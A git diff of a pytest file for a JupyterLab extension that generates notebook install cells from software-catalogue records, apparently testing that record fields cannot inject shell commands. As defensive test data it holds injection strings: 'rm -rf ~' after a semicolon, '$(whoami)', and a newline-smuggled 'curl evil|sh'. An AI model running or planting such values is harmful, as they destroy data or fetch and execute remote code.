@@ -5,17 +5,19 @@ from __future__ import annotations
 import pytest
 
 from jupyterlab_escape.catalogue import records
-from jupyterlab_escape.catalogue.fetch import default_dest
+from jupyterlab_escape.catalogue.fetch import default_dest, safe_name, slug
 from jupyterlab_escape.catalogue.install import install_cell
 from jupyterlab_escape.catalogue.sanitize import sanitize_description
-from jupyterlab_escape.catalogue.workspace import inside, slug
 from jupyterlab_escape.http import EscapeError
+from jupyterlab_escape.workspace import inside
 
 SUMMARY = {"id": "42", "title": "gammapipe: tools", "version": "1.2.0"}
 
 
 def test_install_from_pypi_codemeta():
-    cell = install_cell(SUMMARY, {"installUrl": ["https://pypi.org/project/gammapipe/"]}, [])
+    cell = install_cell(
+        SUMMARY, {"installUrl": ["https://pypi.org/project/gammapipe/"]}, [], record_id="42"
+    )
     assert cell["source"] == "codemeta"
     assert cell["code"].splitlines()[-1] == "%pip install gammapipe==1.2.0"
     assert cell["code"].startswith(
@@ -29,7 +31,7 @@ def test_install_from_repository_with_requirements():
         "softwareRequirements": ["numpy>=1.23", "astropy>=5.3"],
         "codeRepository": ["https://github.com/astro-lab/gammapipe"],
     }
-    code = install_cell(SUMMARY, codemeta, [])["code"].splitlines()
+    code = install_cell(SUMMARY, codemeta, [], record_id="42")["code"].splitlines()
     assert code[2:] == [
         "!git clone --depth 1 --branch v1.2.0 https://github.com/astro-lab/gammapipe",
         "%pip install 'numpy>=1.23' 'astropy>=5.3'",
@@ -50,7 +52,7 @@ def test_install_never_carries_shell_syntax_from_a_record():
         "softwareRequirements": ["numpy; rm -rf ~"],
     }
     related = [{"identifier": "https://gitlab.com/a/$(whoami)", "kind": "repository"}]
-    cell = install_cell(hostile, codemeta, related)
+    cell = install_cell(hostile, codemeta, related, record_id="1")
     assert cell["source"] == "none"
     assert all(line.startswith("#") for line in cell["code"].splitlines())
 
@@ -82,3 +84,29 @@ def test_sanitizer_keeps_formatting_only():
     assert html == (
         '<h2>T</h2><a href="https://e.org" target="_blank" rel="noopener noreferrer nofollow">l</a>'
     )
+
+
+@pytest.mark.parametrize(
+    "raw, text", [("1.2", "1.2"), (3, "3"), (1.5, "1.5"), (True, None), ([1], None), ({}, None)]
+)
+def test_versions_are_text_or_none(raw, text):
+    assert records.version_text(raw) == text
+    assert records.summary({"id": 1, "metadata": {"version": raw}}, "https://z")["version"] == text
+    assert safe_name(raw if isinstance(raw, str) else text) == (text or "latest")
+
+
+def test_install_cell_names_the_validated_id_and_never_a_hidden_clone():
+    upstream = {"id": "1\n!curl evil|sh", "title": "t", "version": 7}
+    related = [{"identifier": "https://github.com/a/..", "kind": "repository"}]
+    code = install_cell(upstream, {"programmingLanguage": ["Python"]}, related, record_id="42")
+    lines = code["code"].splitlines()
+    assert lines[:2] == [
+        "# Install t",
+        "# from the ESCAPE OSSR, record 42. Review and edit before running.",
+    ]
+    assert lines[2:] == [
+        "!git clone --depth 1 https://github.com/a/.. source",
+        "%pip install ./source",
+    ]
+    with pytest.raises(ValueError):
+        install_cell(upstream, None, [], record_id="1\n!x")
